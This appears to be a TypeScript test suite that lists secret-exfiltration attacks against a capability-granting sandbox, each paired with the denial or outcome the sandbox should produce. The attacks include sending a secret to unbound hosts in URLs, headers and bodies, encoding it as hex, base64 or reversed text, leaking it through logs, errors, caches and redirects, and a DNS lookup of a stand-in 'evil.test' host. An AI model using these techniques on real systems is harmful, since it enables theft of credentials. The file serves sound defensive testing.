import {
  type Attack,
  callRefused,
  completed,
  failedByItself,
  harmless,
  refused,
  settled,
} from '../attack.ts';
import { courier, httpGrant } from '../guests/courier.ts';
import { READ_GRANT, signer } from '../guests/signer.ts';
import { SECRET_GRANT, thief } from '../guests/thief.ts';
import { PUBLIC, PUBLIC_2 } from '../target/internet.ts';
import { SECRET_NAME } from '../target/secret.ts';

const BOUND = [`${PUBLIC} 80`];
const BOTH = [`${PUBLIC} 80`, `${PUBLIC_2} 80`];
const DENIED = callRefused('ERR_SECRET_DENIED', { dialled: BOUND });

/** After every attack, whatever left is searched for the value in all its forms; so these only say how it ends. */
const stolen = (
  id: string,
  tries: string,
  by: Attack['by'],
  expect: Attack['expect'] = harmless(true, BOUND),
): Attack => ({ id: `secret-${id}`, threat: 'secrets', tries, by, expect });

/** The server sends the value back in this form, the guest returns it. */
const reflected = (encoding: string): Attack =>
  stolen(
    `reflected-${encoding.toLowerCase() === encoding ? encoding : 'upper-case-hex'}`,
    `have a server send it back (${encoding}) and return that`,
    thief('return', encoding),
    completed(BOUND),
  );

export const SECRET_ATTACKS: readonly Attack[] = [
  stolen(
    'to-other-host-in-url',
    'send a reference to a host it is not bound to, in the URL',
    thief('url'),
    DENIED,
  ),
  stolen('to-other-host-in-header', 'the same in a header', thief('header'), DENIED),
  stolen('to-other-host-in-body', 'the same in a body', thief('body'), DENIED),
  ...['raw', 'base64', 'hex', 'HEX', 'url', 'reversed'].map(reflected),
  stolen('reflected-to-other', 'send on what a server sent back', thief('loot'), harmless(true, BOTH)),
  stolen('in-log', 'log what a server sent back', thief('log')),
  stolen('in-failure', 'fail with it as the message', thief('fail'), failedByItself('stolen', BOUND)),
  stolen(
    'in-trap',
    'abort with it as the message',
    thief('trap'),
    settled('trapped', 'ERR_GUEST_ABORT', BOUND),
  ),
  stolen('in-cache', 'keep it for a later step', thief('cache'), harmless(true, BOUND)),
  stolen(
    'in-checkpoint',
    'put it into a checkpoint',
    thief('checkpoint'),
    settled('exhausted', 'ERR_LIMIT_CHECKPOINTS', BOUND),
  ),
  stolen('in-question', 'ask a person a question with it', thief('wait'), {
    outcome: 'waiting',
    code: null,
    metric: null,
    event: 'step:waiting',
    dialled: BOUND,
  }),
  stolen(
    'without-tls',
    'send it without TLS where that is not granted',
    thief('none', 'raw', {
      grants: [
        httpGrant(),
        { ...SECRET_GRANT, plain_http: false },
        { capability: 'log' },
        { capability: 'cache', ttl_ms: 1000 },
        { capability: 'wait', timeout_ms: 1000 },
      ],
    }),
    settled('failed', 'ERR_SECRET_DENIED'),
  ),
  stolen(
    'named-in-data',
    'name it in data instead of the configuration',
    courier([{ url: `http://bound.test/\${secrets.${SECRET_NAME}}` }], {
      grants: [httpGrant(), SECRET_GRANT],
    }),
    callRefused('ERR_SECRET_DENIED'),
  ),
  stolen(
    'as-host',
    'have a name server asked for it',
    courier([{ url: `http://\${secrets.${SECRET_NAME}}.evil.test/` }], {
      grants: [httpGrant(), SECRET_GRANT],
    }),
    callRefused('ERR_SECRET_DENIED'),
  ),
  stolen(
    'read-ungranted',
    'read it with the right to refer to it',
    signer('none', {
      requests: [
        SECRET_GRANT,
        READ_GRANT,
        httpGrant(),
        { capability: 'log' },
        { capability: 'cache', ttl_ms: 1000 },
      ],
      grants: [SECRET_GRANT, httpGrant(), { capability: 'log' }, { capability: 'cache', ttl_ms: 1000 }],
    }),
    refused('ERR_GRANT_MISSING'),
  ),
  stolen(
    'read-another',
    'read another than the granted one',
    signer('none', { name: 'OTHER' }),
    settled('failed', 'ERR_SECRET_DENIED'),
  ),
  stolen(
    'held-in-url',
    'send a value it was handed to another host, in the URL',
    signer('url'),
    callRefused('ERR_SECRET_DENIED'),
  ),
  stolen('held-in-header', 'the same in a header', signer('header'), callRefused('ERR_SECRET_DENIED')),
  stolen('held-in-body', 'the same in a body', signer('body'), callRefused('ERR_SECRET_DENIED')),
  stolen(
    'held-in-body-as-hex',
    'the same in hexadecimal',
    signer('body', { as: 'hex' }),
    callRefused('ERR_SECRET_DENIED'),
  ),
  stolen(
    'held-in-body-reversed',
    'the same reversed',
    signer('body', { as: 'reversed' }),
    callRefused('ERR_SECRET_DENIED'),
  ),
  stolen(
    'held-by-redirect',
    'have a redirect carry it to another host',
    signer('body', { url: `http://bound.test/to/307/${encodeURIComponent('http://other.test/ok')}` }),
    callRefused('ERR_SECRET_DENIED', { dialled: BOUND }),
  ),
  stolen(
    'held-in-cache',
    'keep a value it was handed for a later step',
    signer('cache'),
    settled('failed', 'ERR_SECRET_DENIED'),
  ),
  stolen('held-in-output', 'return it', signer('return'), settled('failed', 'ERR_SECRET_LEAK')),
  stolen(
    'held-in-output-as-hex',
    'return it in hexadecimal',
    signer('return', { as: 'hex' }),
    settled('failed', 'ERR_SECRET_LEAK'),
  ),
  stolen(
    'held-in-output-reversed',
    'return it reversed',
    signer('return', { as: 'reversed' }),
    settled('failed', 'ERR_SECRET_LEAK'),
  ),
  stolen('held-in-log', 'log it', signer('log'), harmless(true)),
  stolen('held-in-failure', 'fail with it as the message', signer('fail'), failedByItself('stolen')),
];
